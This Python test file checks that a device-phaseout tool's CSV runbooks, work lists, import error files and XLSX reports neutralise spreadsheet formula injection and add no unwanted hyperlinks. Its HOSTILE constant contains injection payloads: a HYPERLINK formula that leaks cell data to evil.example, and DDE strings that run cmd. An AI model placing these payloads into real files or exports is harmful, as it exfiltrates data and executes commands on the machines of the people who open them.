"""Every file a person opens: formulas neutralised, no links the product did not put there.

Before: ``work list --format csv``, ``plan --runbooks`` and ``import --errors`` wrote
``=HYPERLINK(...)``, ``+cmd|...`` and ``@SUM(...)`` as they came; the XLSX reports turned a
Windows share or a URL in any text into a live link (xlsxwriter's default ``strings_to_urls``)."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import update

from phaseout.app import Phaseout
from phaseout.cli import main
from phaseout.demo.run import run_demo
from phaseout.report.data import Report, Section, Table
from phaseout.report.render import to_xlsx
from phaseout.store import Store
from phaseout.store.schema import devices, work_orders

HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
TODAY = "2026-11-29"


def _run(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    try:
        main(list(args))
    except SystemExit as exc:
        assert not exc.code, capsys.readouterr().err
    return capsys.readouterr().out


def _assert_inert(cells: list[str]) -> None:
    live = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not live, live


@pytest.fixture(scope="module")
def estate(tmp_path_factory: pytest.TempPathFactory) -> str:
    result = run_demo(tmp_path_factory.mktemp("neutral"), stores=4, seed=5)
    packs = ["org-template", "uk-cabinet-office-2022"]
    with Store.open(result.db) as store:
        app = Phaseout(store)
        app.use_packs(packs)
        app.assess(dt.date.fromisoformat(TODAY))
        with store.engine.begin() as conn:  # hostile text, as an imported inventory can carry
            conn.execute(update(devices).values(model=HOSTILE[2]))
    return result.db


def test_runbooks_and_work_list_csv_are_inert(
    estate: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PHASEOUT_DB", estate)
    common = ["--today", TODAY, "--start", "2027-01-01", "--budget", "400000", "--crew-hours", "900"]
    _run(capsys, "plan", *common, "--runbooks", str(tmp_path / "rb"))
    runbooks = sorted((tmp_path / "rb").glob("*.csv"))
    assert runbooks
    cells = [c for p in runbooks for row in csv.reader(p.open(encoding="utf-8")) for c in row]
    assert any(HOSTILE[2] in c for c in cells)  # the hostile model is there, as text
    _assert_inert(cells)
    _run(capsys, "work", "generate")
    with Store.open(estate) as store, store.engine.begin() as conn:
        conn.execute(update(work_orders).values(region=HOSTILE[0], reason=HOSTILE[1]))
    out = _run(capsys, "work", "list", "--format", "csv")
    rows = list(csv.reader(out.splitlines()))
    assert len(rows) > 1
    cells = [c for row in rows for c in row]
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells
    _assert_inert(cells)


def test_import_errors_file_is_inert(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The errors file names each bad row's column by its header, as the user's file spells it:
    a header such as ``@MAC`` (still read as the MAC column) reached the file as a live cell."""
    inventory = tmp_path / "cams.csv"
    inventory.write_text("Site,Make,Model,@MAC\r\n0001,Hikvision,DS-2CD2143G2-I,not-a-mac\r\n", encoding="utf-8")
    with pytest.raises(SystemExit) as info:
        main(["--db", str(tmp_path / "t.db"), "import", str(inventory), "--errors", str(tmp_path / "errors.csv")])
    assert info.value.code == 4
    capsys.readouterr()
    rows = list(csv.reader((tmp_path / "errors.csv").open(encoding="utf-8")))
    assert rows[1][:2] == ["2", "'@MAC"]
    _assert_inert([c for row in rows for c in row])


def test_xlsx_report_has_no_links_it_did_not_make(tmp_path: Path) -> None:
    text = ["\\\\fileserver\\share\\cameras.xlsx", "http://evil.example/", "mailto:someone@example.com", HOSTILE[0]]
    report = Report(
        kind="board",
        title=text[0],
        subtitle=text[1],
        generated="2026-11-29",
        figures=[(text[2], text[3])],
        sections=[Section("s", tables=[Table("t", ["site", "note"], [[t, t] for t in text])])],
    )
    path = tmp_path / "r.xlsx"
    to_xlsx(report, path)
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        assert not sheet._hyperlinks  # where openpyxl keeps a sheet's links
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.hyperlink is None
                assert cell.data_type != "f"
    assert book["summary"]["A1"].value == text[0]  # still there, as text
